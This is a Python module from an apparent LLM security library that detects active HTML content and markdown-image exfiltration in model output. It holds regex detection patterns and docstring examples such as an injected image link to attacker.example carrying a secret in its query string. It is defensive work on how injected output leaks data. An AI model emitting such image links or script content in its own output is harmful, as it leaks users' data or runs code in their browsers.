"""Active content and markdown-image exfiltration in model output.

Two categories:

* ``active_content``: HTML that runs code when rendered (``<script>``,
  ``<iframe>``, ``<object>``, ``<embed>``, ``on*=`` handlers, meta refresh) and
  links or attributes whose URL scheme is dangerous (``javascript:``,
  ``vbscript:``, ``data:text/html`` and friends), in HTML attributes, markdown
  links, autolinks and reference definitions. Ordinary links are left alone.
* ``markdown_image_exfiltration``: anything a renderer would fetch without a
  click from a host that is not on an allowlist: markdown images (inline,
  reference, collapsed, shortcut), HTML attributes that load a URL (``src``,
  ``srcset``, ``poster``, ``href`` of ``<link>``/SVG, ...), CSS ``url()`` and
  ``@import``. An injected ``![](https://attacker.example/?q=<secret>)`` leaks
  data when rendered; relative URLs and allowlisted hosts are kept. The rules
  live in ``content_markdown``, ``content_html`` and ``content_urls``.

Active-content rules match on the folded detection view, so zero-width
characters, fullwidth letters and odd casing (``JaVaScRiPt:``) do not hide them.

The shared instance (no image host allowed) is registered as ``"content"``.
"""

from __future__ import annotations

from collections.abc import Iterable

import re2

from langchain_mistral_secure.detection.content_html import (
    css_spans,
    html_attribute_spans,
)
from langchain_mistral_secure.detection.content_markdown import (
    IMAGE_MAX_LEN,
    LOOKAHEAD,
    markdown_image_spans,
)
from langchain_mistral_secure.detection.content_urls import host_allowed
from langchain_mistral_secure.detection.engine import (
    Finding,
    Rule,
    RuleDetector,
    register_detector,
)
from langchain_mistral_secure.detection.normalize import (
    DetectionView,
    build_stripped_view,
)

__all__ = [
    "CONTENT_CATEGORIES",
    "IMAGE_HOLD",
    "IMAGE_MAX_LEN",
    "ContentDetector",
    "host_allowed",
]

CONTENT_CATEGORIES: tuple[str, ...] = ("active_content", "markdown_image_exfiltration")
"""Categories the content detector reports."""

_PAIR = 2
_IMAGE_CATEGORY = "markdown_image_exfiltration"
IMAGE_HOLD = 510
"""The content detector's ``max_match_len`` when images are detected.

Every image decision depends on at most
:data:`~langchain_mistral_secure.detection.content_markdown.LOOKAHEAD`
characters after the construct's start; a stream holding this many decides
as a whole-text pass does (the redactor's default hold is 512).
"""
if LOOKAHEAD >= IMAGE_HOLD:  # pragma: no cover - a module invariant
    msg = "image decisions must fit the stream hold"
    raise RuntimeError(msg)


def _spaced(word: str) -> str:
    """A word whose letters may be split by ASCII whitespace (browsers drop it)."""
    return r"\s{0,3}".join(re2.escape(char) for char in word)


_SCHEME = (
    r"(?:"
    + _spaced("javascript")
    + "|"
    + _spaced("vbscript")
    + "|"
    + _spaced("livescript")
    + r")\s{0,3}:"
    + r"|"
    + _spaced("data")
    + r"\s{0,3}:\s{0,3}(?:text/html|text/javascript|text/xml|application/xhtml\+xml|"
    r"application/javascript|application/x-javascript|image/svg\+xml)"
)
_DANGEROUS_URL = r"(?:" + _SCHEME + r")[^\s\"'<>]{0,120}"
_URL_ATTRS = (
    r"(?:href|src|action|formaction|data|xlink:href|background|poster|lowsrc|"
    r"dynsrc|srcdoc|codebase|cite|ping)"
)
# Up to three adjacent tags per match (fewer matches on tag floods); the span
# covers the tag name and its first attributes, which is enough to defuse it.
_HTML_TAG = r"(?:</?(?:script|iframe)\b[^<>]{0,60}>?){1,3}"
# Tag names that are also type names (List<Object>, Vec<Base>): only after a
# character that cannot end an identifier.
_HTML_TAG_EMBED = (
    r"(?:^|[^a-z0-9_])((?:</?(?:object|embed|applet|frame|frameset|base)\b"
    r"[^<>]{0,60}>?){1,3})"
)
_META_REFRESH = (
    r"<\s{0,4}meta\b[^>]{0,120}http-equiv\s{0,4}=\s{0,4}[\"']?refresh[^>]{0,90}>?"
)
_EVENT_HANDLER = (
    r"<[a-z][a-z0-9\-]{0,20}[^>]{0,100}?[\s/\"'](on[a-z]{3,20}\s{0,4}=\s{0,4}"
    r"(?:\"[^\"]{0,100}\"?|'[^']{0,100}'?|[^\s>]{1,100}))"
)
_MD_LINK_URL = r"\]\(\s{0,4}<?\s{0,4}(" + _DANGEROUS_URL + r")"
_ATTR_URL = _URL_ATTRS + r"\s{0,4}=\s{0,4}[\"']?\s{0,4}(" + _DANGEROUS_URL + r")"
_ATTR_ENTITY = (
    _URL_ATTRS
    + r"\s{0,4}=\s{0,4}[\"']?\s{0,4}"
    + r"((?:&#x?[0-9a-f]{1,8};?|&(?:tab|newline|colon);)[^\s\"'>]{0,100})"
)
_AUTOLINK = r"<\s{0,4}(" + _DANGEROUS_URL + r")>?"
_REF_DEF = r"\[[^\]\n]{1,60}\]:\s{0,4}<?\s{0,4}(" + _DANGEROUS_URL + r")"

ACTIVE_RULES: tuple[Rule, ...] = (
    Rule(
        id="content.html_tag",
        category="active_content",
        pattern=_HTML_TAG,
        max_len=234,
        description="script / iframe tag (open or close).",
    ),
    Rule(
        id="content.html_embed_tag",
        category="active_content",
        pattern=_HTML_TAG_EMBED,
        group=1,
        max_len=256,
        description="object / embed / applet / frame / base tag (open or close).",
    ),
    Rule(
        id="content.meta_refresh",
        category="active_content",
        pattern=_META_REFRESH,
        max_len=256,
        description="<meta http-equiv=refresh> redirect.",
    ),
    Rule(
        id="content.event_handler",
        category="active_content",
        pattern=_EVENT_HANDLER,
        group=1,
        max_len=256,
        description="on*= event handler attribute inside an HTML tag.",
    ),
    Rule(
        id="content.markdown_link_scheme",
        category="active_content",
        pattern=_MD_LINK_URL,
        group=1,
        max_len=256,
        description="Markdown link or image whose target has a dangerous scheme.",
    ),
    Rule(
        id="content.attribute_scheme",
        category="active_content",
        pattern=_ATTR_URL,
        group=1,
        max_len=256,
        description="HTML URL attribute (href, src, ...) with a dangerous scheme.",
    ),
    Rule(
        id="content.attribute_entity",
        category="active_content",
        pattern=_ATTR_ENTITY,
        group=1,
        max_len=160,
        description="HTML URL attribute opening with a character entity.",
    ),
    Rule(
        id="content.autolink_scheme",
        category="active_content",
        pattern=_AUTOLINK,
        group=1,
        max_len=256,
        description="Autolink <javascript:...> with a dangerous scheme.",
    ),
    Rule(
        id="content.reference_scheme",
        category="active_content",
        pattern=_REF_DEF,
        group=1,
        max_len=256,
        description="Markdown reference definition with a dangerous scheme.",
    ),
)
"""Rules of the ``active_content`` category (matched on the detection view)."""


class ContentDetector(RuleDetector):
    """Finds active content and every image fetch outside an allowlist.

    Images are decided the way a renderer decides what to fetch (see
    :mod:`~langchain_mistral_secure.detection.content_markdown`,
    :mod:`~langchain_mistral_secure.detection.content_html` and
    :mod:`~langchain_mistral_secure.detection.content_urls`): markdown images
    in every form, every HTML attribute and CSS token that loads a URL, after
    decoding character references, escapes and whitespace. Relative URLs and
    http(s) URLs on an allowlisted host (or a subdomain) are kept; everything
    else is reported as ``markdown_image_exfiltration``, on spans that leave
    well-formed output once replaced.

    Args:
        image_host_allowlist: Hosts whose images may stay (subdomains
            included); every other image fetch is reported.
        detect_active_content: Whether to report ``active_content``.
        detect_images: Whether to report ``markdown_image_exfiltration``.

    Example:
        >>> detector = ContentDetector(image_host_allowlist=("cdn.example.com",))
        >>> text = "![a](https://cdn.example.com/a.png) ![b](https://evil.io/?q=x)"
        >>> [text[f.start : f.end] for f in detector.detect(text)]
        ['![b](https://evil.io/?q=x)']
    """

    def __init__(
        self,
        *,
        image_host_allowlist: Iterable[str] = (),
        detect_active_content: bool = True,
        detect_images: bool = True,
    ) -> None:
        """Compile the rules; the allowlist is fixed for the instance."""
        self.image_host_allowlist: tuple[str, ...] = tuple(
            host.strip().lower() for host in image_host_allowlist if host.strip()
        )
        self.detect_images = detect_images
        super().__init__(ACTIVE_RULES if detect_active_content else (), name="content")
        if detect_images:
            # A stream must hold everything that decides an image.
            self.max_match_len = max(self.max_match_len, IMAGE_HOLD)

    def __repr__(self) -> str:
        """Show the rule and allowlist counts (never any text)."""
        return (
            f"ContentDetector(rules={len(self.rules)}, "
            f"allowed_image_hosts={len(self.image_host_allowlist)})"
        )

    def detect(self, text: str, *, view: DetectionView | None = None) -> list[Finding]:
        """Return active-content and image findings in ``text`` (unmerged).

        Args:
            text: The text to scan.
            view: An already built detection view of ``text`` to share.
        """
        findings = [_balanced(text, f) for f in super().detect(text, view=view)]
        if self.detect_images:
            findings.extend(self.image_findings(text))
        return findings

    def image_findings(self, text: str) -> list[Finding]:
        """Findings of every fetch outside the allowlist (markdown, HTML, CSS).

        The scan runs with invisible characters removed (they hide nothing
        from a renderer), and maps its spans back to ``text``.

        Example:
            >>> text = '<img alt="a" src="https&#58;//evil.io/x.png">'
            >>> [text[f.start : f.end] for f in ContentDetector().image_findings(text)]
            ['src="https&#58;//evil.io/x.png"']
        """
        stripped = build_stripped_view(text)
        scanned = stripped.text
        allow = self.image_host_allowlist

        def adjacent(index: int) -> bool:
            start, end = stripped.to_original(index, index + _PAIR)
            return end - start == _PAIR

        spans = markdown_image_spans(
            scanned, allow, adjacent=(lambda _: True) if stripped.identity else adjacent
        )
        spans.extend(html_attribute_spans(scanned, allow))
        spans.extend(css_spans(scanned, allow))
        findings: list[Finding] = []
        size = len(scanned)
        for start, end, rule_id in spans:
            if stripped.identity:
                first, last = start, end
            else:
                first, last = stripped.to_original(start, end)
                if end >= size:
                    last = len(text)
            # Positional arguments: an image flood makes one per few characters.
            findings.append(Finding(first, last, rule_id, _IMAGE_CATEGORY))
        return findings


def _balanced(text: str, finding: Finding) -> Finding:
    """Leave a markdown link's closing parenthesis out of a URL finding."""
    if finding.rule_id != "content.markdown_link_scheme":
        return finding
    span = text[finding.start : finding.end]
    end = finding.end
    while span.endswith(")") and span.count(")") > span.count("("):
        span = span[:-1]
        end -= 1
    if end <= finding.start:
        return finding
    return Finding(
        start=finding.start,
        end=end,
        rule_id=finding.rule_id,
        category=finding.category,
        score=finding.score,
    )


register_detector("content", ContentDetector)
